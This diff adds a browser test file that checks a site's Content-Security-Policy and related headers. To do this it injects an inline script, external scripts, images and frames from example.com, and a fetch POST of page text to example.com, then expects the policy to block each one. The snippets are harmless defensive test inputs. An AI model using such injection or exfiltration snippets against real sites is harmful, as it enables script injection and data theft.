@@ -1,0 +1,58 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { pathTo } from '../support/pages.ts'
+import { root } from '../support/project.ts'
+import { expect, test } from '../support/reader.ts'
+
+const metaPolicy = (): string => {
+  const html = readFileSync(join(root, 'dist/it/index.html'), 'utf8')
+  return /content-security-policy" content="([^"]+)"/.exec(html)?.[1] ?? ''
+}
+
+test('the site is served with the headers that it was built with', async ({ page }) => {
+  const answer = await page.goto(pathTo('home', 'it'))
+  const headers = answer?.headers() ?? {}
+  expect(headers['content-security-policy']).toBe(`${metaPolicy()}; frame-ancestors 'none'`)
+  expect(headers['x-content-type-options']).toBe('nosniff')
+  expect(headers['referrer-policy']).toBe('no-referrer')
+})
+
+for (const [what, code] of [
+  ['a script written into the page', "const s = document.createElement('script'); s.textContent = 'window.hurt = true'; document.body.append(s)"],
+  ['a script from another site', "const s = document.createElement('script'); s.src = 'https://example.com/a.js'; document.body.append(s)"],
+  ['a style on an element', "document.body.setAttribute('style', 'color: red')"],
+  ['a picture from another site', "const i = new Image(); i.src = 'https://example.com/a.png'"],
+  ['a frame', "const f = document.createElement('iframe'); f.src = 'https://example.com/'; document.body.append(f)"],
+] as const) {
+  test(`the policy refuses ${what}, and the tests would notice`, async ({ page, troubles }) => {
+    troubles.expect(/violation|Content Security Policy/i, /request to another site/)
+    await page.goto(pathTo('home', 'it'))
+    await page.evaluate(code)
+    await expect.poll(() => troubles.all.some((trouble) => trouble.includes('violation:'))).toBe(true)
+    expect(await page.evaluate(() => 'hurt' in window)).toBe(false)
+  })
+}
+
+test('the policy refuses words sent to another site', async ({ page, troubles }) => {
+  troubles.expect(/violation|Content Security Policy|Fetch API|Refused/i, /request to another site/)
+  await page.goto(pathTo('message', 'it'))
+  const sent = await page.evaluate(() =>
+    fetch('https://example.com/', { method: 'POST', body: 'words' }).then(
+      () => 'sent',
+      () => 'refused',
+    ),
+  )
+  expect(sent).toBe('refused')
+})
+
+test('without the header the policy in the page still refuses', async ({ page, troubles }) => {
+  troubles.expect(/violation|Content Security Policy/i)
+  await page.route('**/it/', async (route) => {
+    const answer = await route.fetch()
+    const { 'content-security-policy': _, ...headers } = answer.headers()
+    await route.fulfill({ response: answer, headers })
+  })
+  await page.goto(pathTo('home', 'it'))
+  await page.evaluate(() => document.body.setAttribute('style', 'color: red'))
+  await expect.poll(() => troubles.all.some((trouble) => trouble.includes('violation:'))).toBe(true)
+})
